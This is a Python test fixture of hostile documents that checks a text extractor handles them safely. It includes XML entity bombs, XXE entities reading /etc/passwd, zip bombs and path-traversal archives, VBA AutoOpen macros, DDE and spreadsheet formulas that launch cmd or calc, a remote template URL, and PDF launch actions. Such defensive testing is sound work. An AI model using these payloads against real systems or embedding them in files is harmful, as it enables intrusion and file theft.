"""Nasty documents, each with what becomes of it."""

import bz2
import gzip
import io
import json
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache

from tests.nasty import sound
from tests.nasty.cases import TEXT, Nasty
from tests.nasty.sound import zipped

SECRET = "root:"
"""What stands in /etc/passwd, which no document may show."""
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha ha ha ha ha ha ha ha">'
    + "".join(
        f'<!ENTITY {after} "{f"&{before};" * 10}">'
        for before, after in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + "]>"
)
"""A head that makes &i; eight hundred million letters long."""
FETCH = '<!DOCTYPE x [<!ENTITY i SYSTEM "file:///etc/passwd">]>'
"""A head that makes &i; a file of this machine."""
NOISE = random.Random(7).randbytes(2_000_000)
WORD = "word/document.xml"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def within(file: Callable[[], bytes], name: str, head: str, anchor: str) -> Callable[[], bytes]:
    """A sound Office file with a head put before one part, and &i; behind `anchor` in it."""

    def make() -> bytes:
        xml = sound.part(file(), name).decode()
        declared, _, rest = xml.partition("?>") if xml.startswith("<?xml") else ("", "", xml)
        opening = f"{declared}?>" if declared else ""
        return zipped({name: opening + head + rest.replace(anchor, f"{anchor}&i;", 1)}, file())

    return make


def over(file: Callable[[], bytes], name: str, content: str | bytes) -> Callable[[], bytes]:
    """A sound Office file with one part replaced or added."""
    return lambda: zipped({name: content}, file())


def word_with(body: Callable[[], str]) -> Callable[[], bytes]:
    """A Word file with this body; random bytes beside it, so that it is not packed suspiciously well."""
    return lambda: zipped(
        {WORD: f"<w:document {W}><w:body>{body()}</w:body></w:document>", "word/media/a.bin": NOISE},
        sound.word(),
    )


def cut(name: str, share: float) -> Callable[[], bytes]:
    """The beginning of a sound file."""

    def make() -> bytes:
        data = sound.documents()[name]
        return data[: int(len(data) * share)]

    return make


def lying() -> bytes:
    """A Word file whose directory says that the body is small."""
    data = bytearray(zipped({WORD: b" " * 50_000_000}, sound.word()))
    place = data.index(b"PK\x01\x02")
    while not data[place + 46 :].startswith(WORD.encode()):
        place = data.index(b"PK\x01\x02", place + 1)
    data[place + 24 : place + 28] = struct.pack("<I", 100)
    return bytes(data)


def overlapping() -> bytes:
    """A zip in which a thousand names share one packed file."""
    one = zipped({"a.txt": b"0" * 10_000_000})
    start = one.index(b"PK\x01\x02")
    entry, end = one[start : one.index(b"PK\x05\x06")], bytearray(one[one.index(b"PK\x05\x06") :])
    entries = b"".join(entry.replace(b"a.txt", f"{n:05}".encode()) for n in range(1000))
    end[8:12] = struct.pack("<HH", 1000, 1000)
    end[12:16] = struct.pack("<I", len(entries))
    return one[:start] + entries + bytes(end)


def links() -> bytes:
    """A zip of a link to a file of this machine, and one to its own folder."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, target in (("passwd.txt", "/etc/passwd"), ("loop.txt", "loop.txt")):
            entry = zipfile.ZipInfo(name)
            entry.create_system, entry.external_attr = 3, 0o120777 << 16
            archive.writestr(entry, target)
    return buffer.getvalue()


def nested(depth: int) -> bytes:
    """Zips in zips."""
    data = zipped({"a.txt": "end"})
    for _ in range(depth):
        data = zipped({"a.zip": data})
    return data


def doubled() -> bytes:
    """A zip in which two files have one name."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for text in ("One.", "Two."):
            with archive.open(zipfile.ZipInfo(f"{len(archive.infolist())}.md"), "w") as file:
                file.write(text.encode())
    return buffer.getvalue().replace(b"1.md", b"0.md")


def locked_zip() -> bytes:
    """A zip that says its file is locked."""
    data = bytearray(zipped({"secret.md": "x"}))
    data[6] |= 1
    data[data.index(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def flipped_zip() -> bytes:
    """A zip whose file is not what its checksum says."""
    data = bytearray(zipped({"a.md": "word " * 100}))
    data[40] ^= 0xFF
    return bytes(data)


def pdf_of(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A PDF of these objects, numbered from 1; the first is its catalogue."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    start = len(out)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"xref\n0 %d\n0000000000 65535 f \n%b" % (len(objects) + 1, table)
    return bytes(out) + b"trailer\n<< /Size %d /Root 1 0 R %b >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer,
        start,
    )


def stream(data: bytes, more: bytes = b"") -> bytes:
    """A stream object."""
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(data), more, data)


PAGE = (
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Contents 4 0 R "
    b"/Resources << /Font << /F 5 0 R >> %b >> >>"
)
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
SAY = b"BT /F 12 Tf 10 100 Td (Unopened pots go back within thirty days.) Tj ET\n"


def one_page(
    content: bytes, *more: bytes, resources: bytes = b"", catalogue: bytes = b"", pages: bytes = b""
) -> bytes:
    """A PDF of one page that draws this."""
    kids = pages or b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    return pdf_of(
        b"<< /Type /Catalog /Pages 2 0 R %b >>" % catalogue, kids, PAGE % resources, content, FONT, *more
    )


def packed(data: bytes, times: int) -> bytes:
    """A stream packed several times over."""
    for _ in range(times):
        data = zlib.compress(data, 9)
    return stream(data, b"/Filter [%b]" % (b"/FlateDecode " * times))


def far_cell() -> bytes:
    """A workbook whose only cells are its first and its very last."""
    xml = sound.part(sound.workbook(), "xl/worksheets/sheet1.xml").decode()
    last = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far</t></is></c></row></sheetData>'
    return zipped({"xl/worksheets/sheet1.xml": xml.replace("</sheetData>", last)}, sound.workbook())


def workbook_rows(rows: int) -> bytes:
    """A workbook of very many cells."""
    xml = sound.part(sound.workbook(), "xl/worksheets/sheet1.xml").decode()
    head, _, tail = xml.partition("<sheetData>")
    row = "<row>" + "<c><v>1</v></c>" * 100 + "</row>"
    sheet = f"{head}<sheetData>{row * rows}</sheetData>{tail.partition('</sheetData>')[2]}"
    return zipped({"xl/worksheets/sheet1.xml": sheet, "xl/media/a.bin": NOISE}, sound.workbook())


def mail_in_mail(depth: int) -> bytes:
    """Mails, each attached to the next."""
    inner = b"Subject: end\nFrom: a@b.org\n\nend\n"
    for _ in range(depth):
        inner = b"Subject: on\nFrom: a@b.org\nContent-Type: message/rfc822\n\n" + inner
    return inner


def parts_in_parts(depth: int) -> bytes:
    """A mail of parts in parts."""
    heads = b"".join(
        b'Content-Type: multipart/mixed; boundary="%d"\n\n--%d\n' % (number, number)
        for number in range(depth)
    )
    return b"Subject: on\nFrom: a@b.org\n" + heads + b"Content-Type: text/plain\n\nend\n"


def book_of(chapter: str, chapters: int = 1) -> bytes:
    """A book that names one chapter, perhaps many times over."""
    spine = '<itemref idref="a"/>' * chapters
    book = sound.EPUB["b.opf"].replace('<itemref idref="a"/>', spine)
    return zipped({**sound.EPUB, "b.opf": book, "a.xhtml": chapter})


def sheet_of(cells: str) -> str:
    """A sheet of one row."""
    space = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    return f"<worksheet {space}><sheetData><row>{cells}</row></sheetData></worksheet>"


def deep_slide() -> bytes:
    """A slide with groups in groups."""
    xml = sound.part(sound.slides(), "ppt/slides/slide1.xml").decode()
    head, _, tail = xml.rpartition("</p:spTree>")
    group = (
        '<p:grpSp><p:nvGrpSpPr><p:cNvPr id="9" name="g"/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>'
    )
    deep = group * 100 + "</p:grpSp>" * 100
    return zipped({"ppt/slides/slide1.xml": f"{head}{deep}</p:spTree>{tail}"}, sound.slides())


@cache
def large_zip() -> bytes:
    """A zip of 400 MB of zeros."""
    buffer = io.BytesIO()
    archive = zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1)
    with archive, archive.open("a.txt", "w") as file:
        for _ in range(400):
            file.write(bytes(1_000_000))
    return buffer.getvalue()


BOMBS = (
    Nasty(
        "Word file of 400 MB of spaces",
        "a.docx",
        over(sound.word, WORD, b" " * 400_000_000),
        "unpacks to too much",
        slow=True,
    ),
    Nasty(
        "Word file of 6,000 parts",
        "a.docx",
        lambda: zipped({f"{n}": "" for n in range(6000)}, sound.word()),
        "unpacks to too much",
    ),
    Nasty("Word file that lies about its size", "a.docx", lying, "damaged"),
    Nasty(
        "Word file of 2 million paragraphs",
        "a.docx",
        word_with(lambda: "<w:p><w:r><w:t>Pot</w:t></w:r></w:p>" * 2_000_000),
        "no memory",
        slow=True,
    ),
    Nasty("Word file, laughing", "a.docx", within(sound.word, WORD, LAUGHS, "<w:t>"), "damaged"),
    Nasty(
        "slides, laughing",
        "a.pptx",
        within(sound.slides, "ppt/slides/slide1.xml", LAUGHS, "<a:t>"),
        "damaged",
    ),
    Nasty(
        "workbook, laughing",
        "a.xlsx",
        within(sound.workbook, "xl/worksheets/sheet1.xml", LAUGHS, "<v>"),
        TEXT,
    ),
    Nasty(
        "OpenDocument, laughing",
        "a.odt",
        within(lambda: sound.text_of("Pot"), "content.xml", LAUGHS, "<text:p>"),
        "damaged",
    ),
    Nasty(
        "book, laughing",
        "a.epub",
        lambda: book_of(f"{LAUGHS}<html><body><p>Pots. &i;</p></body></html>"),
        TEXT,
    ),
    Nasty(
        "book whose list of chapters laughs",
        "a.epub",
        lambda: zipped(
            {**sound.EPUB, "b.opf": LAUGHS + sound.EPUB["b.opf"].replace("<manifest>", "<manifest>&i;")}
        ),
        "damaged",
    ),
    Nasty(
        "book with one chapter 100,000 times",
        "a.epub",
        lambda: book_of("<p>Pots.</p>" * 9, 100_000),
        "unpacks to too much",
    ),
    Nasty(
        "web page, laughing",
        "a.html",
        lambda: f"{LAUGHS}<html><body><p>Pots. &i;</p></body></html>".encode(),
        TEXT,
    ),
    Nasty("XML, laughing", "a.xml", lambda: f"{LAUGHS}<x><p>Pots.</p>&i;</x>".encode(), TEXT),
    Nasty(
        "OpenDocument sheet, a cell repeated to the end",
        "a.ods",
        lambda: sound.cells(
            '<table:table-row table:number-rows-repeated="1048576"><table:table-cell '
            'office:value-type="string" table:number-columns-repeated="16384"><text:p>x</text:p>'
            "</table:table-cell></table:table-row>"
        ),
        "damaged",
    ),
    Nasty(
        "OpenDocument text, a billion spaces",
        "a.odt",
        lambda: sound.text_of('Pot<text:s text:c="999999999"/>red'),
        TEXT,
    ),
    Nasty("workbook with a cell at the far end", "a.xlsx", far_cell, "crashed"),
    Nasty(
        "workbook of 1.5 million cells", "a.xlsx", lambda: workbook_rows(15_000), "too many cells", slow=True
    ),
    Nasty(
        "PDF whose text is packed three times, 1 GB",
        "a.pdf",
        lambda: one_page(packed(bytes(1_000_000_000), 3)),
        "crashed",
        slow=True,
    ),
    Nasty(
        "PDF that says the same 2 million times",
        "a.pdf",
        lambda: one_page(packed(SAY * 2_000_000, 2)),
        "crashed",
        slow=True,
    ),
    Nasty(
        "PDF with objects packed to 300 MB",
        "a.pdf",
        lambda: one_page(
            stream(SAY),
            packed(b"1 0 " * 75_000_000, 1).replace(b"<<", b"<< /Type /ObjStm /N 100000 /First 10", 1),
        ),
        TEXT,
        slow=True,
    ),
)
LOOPS = (
    Nasty("zips in a zip", "a.zip", lambda: nested(50), "archive within"),
    Nasty("zip of links to files of this machine", "a.zip", links, "no files", never=SECRET),
    Nasty("zip that writes outside", "a.zip", lambda: zipped({"../up.md": "x"}), "outside"),
    Nasty("zip that writes at the root", "a.zip", lambda: zipped({"/etc/cron.d/x.md": "x"}), "outside"),
    Nasty("zip that writes on a drive", "a.zip", lambda: zipped({"C:\\x.md": "x"}), "outside"),
    Nasty(
        "zip of names with NUL and marks that turn text around",
        "a.zip",
        lambda: zipped({"a\u202egpj.md": "Pots."}),
        TEXT,
    ),
    Nasty("zip in which a thousand names share a file", "a.zip", overlapping, "unpacks to too much"),
    Nasty("zip of 400 MB of zeros", "a.zip", large_zip, "unpacks to too much"),
    Nasty("zip with two files of one name", "a.zip", doubled, TEXT),
    Nasty("zip that is locked", "a.zip", locked_zip, "locked"),
    Nasty("zip with a wrong checksum", "a.zip", flipped_zip, "damaged"),
    Nasty("zip that is cut off", "a.zip", lambda: zipped({"a.md": "word " * 100})[:-30], "damaged"),
    Nasty("zip of nothing", "a.zip", lambda: zipped({}), "no files"),
    Nasty(
        "PDF whose pages are their own parents",
        "a.pdf",
        lambda: one_page(stream(SAY), pages=b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>"),
        "damaged",
    ),
    Nasty(
        "PDF that promises two billion pages",
        "a.pdf",
        lambda: one_page(stream(SAY), pages=b"<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>"),
        TEXT,
    ),
    Nasty(
        "PDF with one page 50,000 times",
        "a.pdf",
        lambda: one_page(
            stream(SAY), pages=b"<< /Type /Pages /Kids [" + b"3 0 R " * 50_000 + b"] /Count 50000 >>"
        ),
        "too many pages",
    ),
    Nasty(
        "PDF with a drawing that draws itself",
        "a.pdf",
        lambda: one_page(
            stream(SAY + b"/X Do\n"),
            stream(
                b"/X Do /X Do\n",
                b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>",
            ),
            resources=b">> /XObject << /X 6 0 R",
        ),
        TEXT,
    ),
    Nasty(
        "PDF whose tables of places go in a circle",
        "a.pdf",
        lambda: pdf_of(
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            PAGE % b"",
            stream(SAY),
            FONT,
            trailer=b"/Prev 9",
        ),
        TEXT,
    ),
    Nasty(
        "PDF as wide as a town",
        "a.pdf",
        lambda: one_page(stream(SAY)).replace(b"0 0 300 300", b"0 0 3e9 3e9"),
        TEXT,
    ),
    Nasty("mail in mail, 2,000 deep", "a.eml", lambda: mail_in_mail(2000), "damaged"),
    Nasty("mail of parts in parts, 2,000 deep", "a.eml", lambda: parts_in_parts(2000), "damaged", slow=True),
)
CUT = tuple(
    Nasty(
        f"{name[2:]} cut at {share:.0%}",
        name,
        cut(name, share),
        TEXT if name in ("a.rtf", "a.eml", "a.html") else "damaged",
    )
    for name in (
        "a.docx",
        "a.pptx",
        "a.xlsx",
        "a.odt",
        "a.ods",
        "a.epub",
        "a.pdf",
        "a.rtf",
        "a.eml",
        "a.json",
        "a.ipynb",
        "a.html",
    )
    for share in (0.5, 0.97)
)
PICTURE = b"\x89PNG\r\n\x1a\n" + NOISE[:5000]
PROGRAM = b"MZ\x90\0" + NOISE[:5000]
WRONG = (
    Nasty("picture called PDF", "a.pdf", lambda: PICTURE, "damaged"),
    Nasty("program called Word", "a.docx", lambda: PROGRAM, "damaged"),
    Nasty("web page called workbook", "a.xlsx", lambda: b"<html><table><tr><td>1", "damaged"),
    Nasty("Word file called workbook", "a.xlsx", lambda: sound.word(), "damaged"),
    Nasty("workbook called Word file", "a.docx", lambda: sound.workbook(), "damaged"),
    Nasty("workbook called slides", "a.pptx", lambda: sound.workbook(), "damaged"),
    Nasty("zip called book", "a.epub", lambda: zipped({"a": "b"}), "damaged"),
    Nasty(
        "old Office file called Word",
        "a.docx",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5000),
        "unknown kind",
    ),
    Nasty(
        "locked Office file",
        "a.docx",
        lambda: b"\xd0\xcf\x11\xe0" + bytes(600) + "EncryptedPackage".encode("utf-16-le"),
        "locked",
    ),
    Nasty(
        "old Office file of noise",
        "a.xls",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + NOISE[:9000],
        "damaged",
    ),
    Nasty("picture called text", "a.txt", lambda: PICTURE, "no text at all"),
    Nasty("program called table", "a.csv", lambda: PROGRAM, "no text at all"),
    Nasty("packed file called Markdown", "a.md", lambda: gzip.compress(NOISE[:9000]), "no text at all"),
    Nasty("packed file", "a.bz2", lambda: bz2.compress(b"x"), "unknown kind"),
    Nasty("program", "a.exe", lambda: PROGRAM, "unknown kind"),
    Nasty("PDF called text", "a.txt", lambda: sound.pdf(), TEXT, holds="Unopened pots"),
    Nasty("text called Word", "a.docx", lambda: b"Pots.", "damaged"),
    Nasty("nothing", "a.pdf", lambda: b"", "empty"),
    Nasty("a mark of bytes and nothing more", "a.txt", lambda: b"\xef\xbb\xbf", "no text"),
)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b'Sub AutoOpen()\nShell("calc")\nEnd Sub'
KINDS = "http://schemas.openxmlformats.org"
TEMPLATE = (
    f'<Relationships xmlns="{KINDS}/package/2006/relationships"><Relationship Id="rId1" '
    f'Type="{KINDS}/officeDocument/2006/relationships/attachedTemplate" '
    'Target="http://127.0.0.1:9/evil.dotm" TargetMode="External"/></Relationships>'
)
DDE = (
    '<w:p><w:r><w:t>Pots.</w:t></w:r><w:fldSimple w:instr="DDEAUTO cmd.exe &quot;/k calc&quot;">'
    "<w:r><w:t>red</w:t></w:r></w:fldSimple></w:p>"
)
RUNS = (
    Nasty(
        "Word file with a macro",
        "a.docm",
        over(sound.word, "word/vbaProject.bin", OLE),
        TEXT,
        never="AutoOpen",
        holds="Unopened",
    ),
    Nasty(
        "workbook with a macro",
        "a.xlsm",
        over(sound.workbook, "xl/vbaProject.bin", OLE),
        TEXT,
        never="AutoOpen",
        holds="Unopened",
    ),
    Nasty(
        "slides with a macro",
        "a.pptm",
        over(sound.slides, "ppt/vbaProject.bin", OLE),
        TEXT,
        never="AutoOpen",
        holds="Unopened",
    ),
    Nasty(
        "Word file with a template from elsewhere",
        "a.docx",
        over(sound.word, "word/_rels/settings.xml.rels", TEMPLATE),
        TEXT,
        holds="Unopened",
    ),
    Nasty(
        "Word file with a field that starts a program",
        "a.docx",
        word_with(lambda: DDE),
        TEXT,
        never="cmd.exe",
        holds="Pots.",
    ),
    Nasty(
        "Word file with an object in it",
        "a.docx",
        over(sound.word, "word/embeddings/oleObject1.bin", OLE),
        TEXT,
        never="AutoOpen",
    ),
    Nasty(
        "workbook with formulas that start programs",
        "a.xlsx",
        over(
            sound.workbook,
            "xl/worksheets/sheet1.xml",
            sheet_of(
                '<c><f>cmd|\'/C calc\'!A0</f><v>7</v></c><c t="str"><f>HYPERLINK("http://127.0.0.1:9")</f><v>here</v></c>'
            ),
        ),
        TEXT,
        never="cmd",
    ),
    Nasty(
        "Rich Text with an object and a link",
        "a.rtf",
        lambda: (
            rb"{\rtf1 Pots.{\object\objemb{\*\objdata 01050000}}"
            rb"{\field{\*\fldinst DDEAUTO cmd /c calc}{\fldrslt red}}\par}"
        ),
        TEXT,
        never="calc",
        holds="Pots.",
    ),
    Nasty(
        "PDF that runs a script and starts a program",
        "a.pdf",
        lambda: one_page(
            stream(SAY),
            b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
            b"<< /S /Launch /F (calc.exe) >>",
            catalogue=b"/OpenAction 6 0 R /AA << /WC 7 0 R >>",
        ),
        TEXT,
        never="alert",
        holds="Unopened",
    ),
    Nasty(
        "web page with scripts",
        "a.html",
        lambda: (
            b"<p>Pots.</p><script>steal()</script><iframe src=http://127.0.0.1:9></iframe><style>p{}</style>"
        ),
        TEXT,
        never="steal",
        holds="Pots.",
    ),
)
FETCHES = (
    Nasty(
        "Word file that fetches a file",
        "a.docx",
        within(sound.word, WORD, FETCH, "<w:t>"),
        TEXT,
        never=SECRET,
    ),
    Nasty(
        "slides that fetch a file",
        "a.pptx",
        within(sound.slides, "ppt/slides/slide1.xml", FETCH, "<a:t>"),
        TEXT,
        never=SECRET,
    ),
    Nasty(
        "workbook that fetches a file",
        "a.xlsx",
        within(sound.workbook, "xl/worksheets/sheet1.xml", FETCH, "<v>"),
        TEXT,
        never=SECRET,
    ),
    Nasty(
        "OpenDocument that fetches a file",
        "a.odt",
        within(lambda: sound.text_of("Pots."), "content.xml", FETCH, "<text:p>"),
        TEXT,
        never=SECRET,
    ),
    Nasty(
        "book that fetches a file",
        "a.epub",
        lambda: zipped(
            {**sound.EPUB, "b.opf": FETCH + sound.EPUB["b.opf"].replace("<manifest>", "<manifest>&i;")}
        ),
        TEXT,
        never=SECRET,
    ),
    Nasty(
        "web page that fetches a file",
        "a.html",
        lambda: f"{FETCH}<html><body><p>Pots. &i;</p></body></html>".encode(),
        TEXT,
        never=SECRET,
    ),
    Nasty(
        "picture of lines that fetches a file",
        "a.xml",
        lambda: f"{FETCH}<svg><text>Pots. &i;</text></svg>".encode(),
        TEXT,
        never=SECRET,
    ),
    Nasty(
        "book with a chapter outside of it",
        "a.epub",
        lambda: zipped(
            {**sound.EPUB, "b.opf": sound.EPUB["b.opf"].replace("a.xhtml", "../../../../etc/passwd")}
        ),
        "damaged",
        never=SECRET,
    ),
)
DEEP = (
    Nasty("lists in JSON, 100,000 deep", "a.json", lambda: b"[" * 100_000 + b"]" * 100_000, "damaged"),
    Nasty("objects in JSON, 900 deep", "a.json", lambda: b'{"a":' * 900 + b"1" + b"}" * 900, TEXT),
    Nasty(
        "lines of JSON, deep",
        "a.jsonl",
        lambda: (b'{"a":' * 5000 + b"1" + b"}" * 5000 + b"\n") * 3,
        "damaged",
    ),
    Nasty(
        "boxes in a web page, 200,000 deep", "a.html", lambda: b"<div>" * 200_000 + b"Pots.", TEXT, slow=True
    ),
    Nasty(
        "letters in a web page, 50,000 deep", "a.html", lambda: b"<b><i>" * 50_000 + b"Pots.", TEXT, slow=True
    ),
    Nasty(
        "tables in tables of a web page, 3,000 deep",
        "a.html",
        lambda: b"<table><tr><td>" * 3_000 + b"Pots.",
        TEXT,
        slow=True,
    ),
    Nasty(
        "XML, 100,000 deep", "a.xml", lambda: b"<a>" * 100_000 + b"Pots." + b"</a>" * 100_000, TEXT, slow=True
    ),
    Nasty("quotes in Markdown, 20,000 deep", "a.md", lambda: b">" * 20_000 + b" Pots.", "no text"),
    Nasty(
        "lists in Markdown, 2,000 deep",
        "a.md",
        lambda: b"".join(b"  " * n + b"- a\n" for n in range(2_000)),
        TEXT,
    ),
    Nasty("brackets in Markdown", "a.md", lambda: b"[" * 100_000 + b"Pots.", TEXT, slow=True),
    Nasty("links in Markdown that never close", "a.md", lambda: b"[a](" * 50_000, TEXT, slow=True),
    Nasty("stars and underlines in Markdown", "a.md", lambda: b"*a_ " * 50_000, TEXT, slow=True),
    Nasty(
        "ticks in Markdown, ever longer", "a.md", lambda: b" ".join(b"`" * n for n in range(1, 2_000)), TEXT
    ),
    Nasty(
        "groups in Rich Text, 100,000 deep",
        "a.rtf",
        lambda: rb"{\rtf1 Pots." + b"{" * 100_000 + b"}" * 100_000 + b"}",
        TEXT,
    ),
    Nasty(
        "tables in a Word file, 500 deep",
        "a.docx",
        word_with(
            lambda: (
                "<w:tbl><w:tr><w:tc>" * 500
                + "<w:p><w:r><w:t>Pots.</w:t></w:r></w:p>"
                + "</w:tc></w:tr></w:tbl>" * 500
            )
        ),
        "damaged",
    ),
    Nasty(
        "controls in a Word file, 60 deep",
        "a.docx",
        word_with(
            lambda: (
                "<w:sdt><w:sdtContent>" * 60
                + "<w:p><w:r><w:t>Pots.</w:t></w:r></w:p>"
                + "</w:sdtContent></w:sdt>" * 60
            )
        ),
        TEXT,
    ),
    Nasty("groups on a slide, 100 deep", "a.pptx", deep_slide, TEXT),
    Nasty(
        "lists in OpenDocument, 200 deep",
        "a.odt",
        lambda: sound.odf(
            "<office:text>"
            + "<text:list><text:list-item>" * 100
            + "<text:p>Pots.</text:p>"
            + "</text:list-item></text:list>" * 100
            + "</office:text>"
        ),
        TEXT,
    ),
    Nasty("brackets in a program", "a.py", lambda: b"(" * 200_000, "no text"),
    Nasty(
        "lists in a PDF, 100,000 deep",
        "a.pdf",
        lambda: one_page(stream(SAY), b"[" * 100_000 + b"]" * 100_000),
        TEXT,
    ),
)
HUGE = (
    Nasty("one line of 40 MB", "a.txt", lambda: b"x" * 40_000_000, "too much text", slow=True),
    Nasty("49 MB of empty lines", "a.txt", lambda: b"\n" * 49_000_000, "no text", slow=True),
    Nasty("a file larger than is read", "a.txt", lambda: b"x" * 50_000_001, "too large"),
    Nasty("one cell of 40 MB", "a.csv", lambda: b'a,b\n"' + b"x" * 40_000_000 + b'",1\n', "damaged"),
    Nasty("a row of 2 million cells", "a.csv", lambda: b"a," * 2_000_000, "too many cells"),
    Nasty("2 million rows", "a.csv", lambda: b"a,b\n" * 2_000_000, "too many cells"),
    Nasty("a quote that never ends", "a.csv", lambda: b'a,b\n"' + b"x\n" * 5_000_000, "too many cells"),
    Nasty(
        "a cell of 30 MB in a workbook",
        "a.xlsx",
        over(
            sound.workbook,
            "xl/worksheets/sheet1.xml",
            sheet_of(f'<c t="inlineStr"><is><t>{"x " * 15_000_000}</t></is></c><c><v>1</v></c>'),
        ),
        "unpacks to too much",
    ),
    Nasty(
        "a table of 20,000 columns in Markdown",
        "a.md",
        lambda: b"|a" * 20_000 + b"|\n" + b"|-" * 20_000 + b"|\n" + b"|b" * 20_000 + b"|\n",
        TEXT,
    ),
    Nasty(
        "3 million numbers in JSON",
        "a.json",
        lambda: json.dumps(list(range(3_000_000))).encode(),
        "too much text",
        slow=True,
    ),
    Nasty(
        "a number of a million digits in JSON",
        "a.json",
        lambda: b'{"a": ' + b"9" * 1_000_000 + b"}",
        "damaged",
    ),
    Nasty(
        "a web page of a million cells",
        "a.html",
        lambda: b"<table>" + (b"<tr>" + b"<td>a" * 100) * 10_000,
        "too many tags",
    ),
    Nasty(
        "40 MB in one attribute of a web page",
        "a.html",
        lambda: b'<p title="' + b"x" * 40_000_000 + b'">Pots.</p>',
        TEXT,
    ),
    Nasty(
        "a million marks that stack on one letter",
        "a.txt",
        lambda: ("a" + "\u0301\u0327" * 500_000).encode(),
        TEXT,
    ),
    Nasty("a line of two million spaces", "a.md", lambda: b"a" + b" " * 2_000_000 + b"b", TEXT),
    Nasty(
        "a head of a mail, folded 200,000 times",
        "a.eml",
        lambda: b"From: a@b.org\nSubject: a\n" + b" b\n" * 200_000 + b"\nPots.\n",
        TEXT,
    ),
    Nasty(
        "a mail to 200,000 people",
        "a.eml",
        lambda: b"From: a@b.org\nSubject: a\nTo: " + b"a@b.org, " * 200_000 + b"c@d.org\n\nPots.\n",
        TEXT,
    ),
    Nasty(
        "a mail of encoded words",
        "a.eml",
        lambda: b"From: a@b.org\nSubject: " + b"=?utf-8?q?a?= " * 20_000 + b"\n\nPots.\n",
        TEXT,
    ),
    Nasty(
        "Rich Text of a million characters by number",
        "a.rtf",
        lambda: rb"{\rtf1 " + rb"\u8364?" * 1_000_000 + b"}",
        TEXT,
        slow=True,
    ),
    Nasty("a program of one line of 10 MB", "a.js", lambda: b"a=" + b"'b'+" * 2_500_000, "no text"),
    Nasty("a program of strings that never end", "a.py", lambda: b'"""\n' * 100_001, TEXT),
)
ODD = (
    Nasty(
        "UTF-16 with an odd byte",
        "a.txt",
        lambda: b"\xff\xfe" + "Pots are red.".encode("utf-16-le") + b"x",
        TEXT,
        holds="Pots are red.",
    ),
    Nasty(
        "UTF-32 of no letters",
        "a.txt",
        lambda: b"\xff\xfe\0\0" + b"\xff\xff\xff\x7f" * 1000,
        "no text at all",
    ),
    Nasty(
        "halves of letters",
        "a.txt",
        lambda: b"Pots \xed\xa0\x80\xed\xb0\x80 are red. " * 30,
        TEXT,
        holds="are red.",
    ),
    Nasty("NUL between letters", "a.txt", lambda: b"Pots\0are\0red. " * 3, "no text at all", never="\0"),
    Nasty(
        "text that is turned around",
        "a.txt",
        lambda: "Pots \u202eder era\u202c. \u2066x\u2069 \U000e0041".encode(),
        TEXT,
        never="\u202e",
    ),
    Nasty(
        "a program's codes for the screen",
        "a.log",
        lambda: b"\x1b]0;evil\x07\x1b[2JPots are red.\n" * 3,
        TEXT,
        never="\x1b",
    ),
    Nasty("every byte", "a.txt", lambda: bytes(range(256)) * 20, "no text at all"),
    Nasty(
        "JSON of halves of letters",
        "a.json",
        lambda: b'{"a": "\\ud800 Pots \\udfff"}',
        TEXT,
        holds="Pots",
        never="\ud800",
    ),
    Nasty(
        "an encoding that is none",
        "a.html",
        lambda: b'<?xml encoding="evil"?><meta charset="rot13"><p>Pots.</p>',
        TEXT,
        holds="Pots.",
    ),
    Nasty(
        "a mail in UTF-7",
        "a.eml",
        lambda: (
            b"From: a@b.org\nSubject: a\nContent-Type: text/plain; charset=utf-7\n\n+ADw-script+AD4-Pots.\n"
        ),
        TEXT,
    ),
    Nasty(
        "a mail that names a codec of Python",
        "a.eml",
        lambda: b"From: a@b.org\nSubject: a\nContent-Type: text/plain; charset=unicode_escape\n\nPots.\n",
        TEXT,
    ),
)
DOCUMENTS = (*BOMBS, *LOOPS, *CUT, *WRONG, *RUNS, *FETCHES, *DEEP, *HUGE, *ODD)
